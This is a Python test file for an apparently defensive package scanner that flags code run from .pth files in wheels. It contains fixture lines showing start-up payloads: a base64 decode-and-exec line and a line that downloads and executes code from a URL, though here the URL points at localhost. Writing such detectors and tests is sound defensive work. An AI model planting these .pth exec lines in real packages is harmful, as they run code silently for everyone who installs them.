"""`.pth` files in wheels: benign import shims versus start-up payloads."""

from __future__ import annotations

import base64
from pathlib import Path

from builders import make_wheel
from pkgvet.analyzer.pth import PthAnalyzer, executable_lines
from pkgvet.model import Phase, Severity, Verdict
from pkgvet.package import load
from pkgvet.sources.local import local_artifact
from pkgvet.verdict import decide


def scan(tmp_path: Path, pth: str) -> list:
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture.pth": pth, "fixture/__init__.py": ""})
    return list(PthAnalyzer().analyze(load(local_artifact(wheel))))


def test_only_import_lines_execute() -> None:
    text = "/opt/extra\nimport os\n# comment\nimport\tsys\nimportlib\n"
    assert [n for n, _ in executable_lines(text)] == [2, 4]


def test_path_only_pth_has_no_findings(tmp_path: Path) -> None:
    assert scan(tmp_path, "src\n../vendor\n") == []


def test_setuptools_style_shim_is_low_and_benign(tmp_path: Path) -> None:
    shim = (
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    found = scan(tmp_path, shim)
    assert [f.rule_id for f in found] == ["PV109"]
    assert found[0].severity is Severity.LOW
    assert decide(found) is Verdict.BENIGN


def test_startup_decode_exec_is_malicious(tmp_path: Path) -> None:
    payload = base64.b64encode(b"print(1)").decode()
    found = scan(tmp_path, f"import base64; exec(base64.b64decode('{payload}'))\n")
    hit = [f for f in found if f.rule_id == "PV201"]
    assert hit and hit[0].phase is Phase.IMPORT and hit[0].line == 1
    assert decide(found) is Verdict.MALICIOUS


def test_startup_download_and_exec_obfuscated_with_alias(tmp_path: Path) -> None:
    found = scan(tmp_path, "import urllib.request as u; exec(u.urlopen('http://127.0.0.1:9/x').read())\n")
    assert any(f.rule_id == "PV202" for f in found)
